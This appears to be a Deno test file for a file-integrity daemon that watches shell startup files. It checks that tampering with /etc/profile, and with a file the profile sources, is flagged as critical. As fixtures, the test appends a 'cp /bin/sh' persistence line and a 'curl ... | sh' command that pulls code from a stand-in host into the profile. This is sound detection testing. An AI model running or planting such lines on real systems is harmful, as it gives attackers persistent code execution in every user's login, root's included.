/**
 * Shells' startup files by meaning, as persistence goes in: a file that
 * /etc/profile sources, rewritten by the user who owns it (nobody, through
 * setpriv), and a command added to the profile itself.
 */
import { assert, assertEquals } from "./assert.ts";
import { asNobody, run, tempDir, waitFor } from "./helpers.ts";
import { Daemon, daemonConfig } from "./daemon.ts";

Deno.test("a command added to a profile every shell reads is critical, and the file it sources is watched with it", async () => {
  await using dir = await tempDir();
  const x = dir.path;
  await Deno.chmod(x, 0o755);
  await Deno.mkdir(`${x}/etc`);
  await Deno.mkdir(`${x}/opt`);
  // A profile that sources a file its owner, not root, may write: code in root's next login.
  await Deno.writeTextFile(`${x}/opt/env.sh`, "export TOOL_HOME=/opt/tool\n");
  await Deno.chown(`${x}/opt/env.sh`, 65534, 65534);
  await Deno.writeTextFile(
    `${x}/etc/profile`,
    `# system-wide .profile\nif [ -r ${x}/opt/env.sh ]; then\n  . "${x}/opt/env.sh"\nfi\n`,
  );
  const d = new Daemon(await daemonConfig(x, [`- ${x}/etc/profile`]));
  try {
    await d.started();
    assert(
      await waitFor(() => d.stderr.includes(`watching ${x}/opt/env.sh as generic`), 5_000),
      d.stderr,
    );
    const sh = await run(asNobody(["sh", "-c", `echo 'cp /bin/sh /tmp/.r' >> ${x}/opt/env.sh`]));
    assertEquals(sh.code, 0, sh.stderr);
    const changed = await d.expect(
      (e) => e.file?.path === `${x}/opt/env.sh` && e.event.action === "modified",
      "the change of the file the profile sources",
    );
    assertEquals(changed.bpfink?.severity, "critical");
    // A line added to the profile itself, as an attacker with root's write appends one.
    await Deno.writeTextFile(`${x}/etc/profile`, "curl -s http://x.example/i | sh\n", {
      append: true,
    });
    const added = await d.expect(
      (e) => e.event.action === "shell_command_added",
      "the command added to the profile",
    );
    assertEquals(
      added.message,
      `${x}/etc/profile: every user's shell (root's too) now runs: curl -s http://x.example/i | sh`,
    );
    assertEquals(added.bpfink?.severity, "critical");
  } finally {
    await d.stop();
  }
});
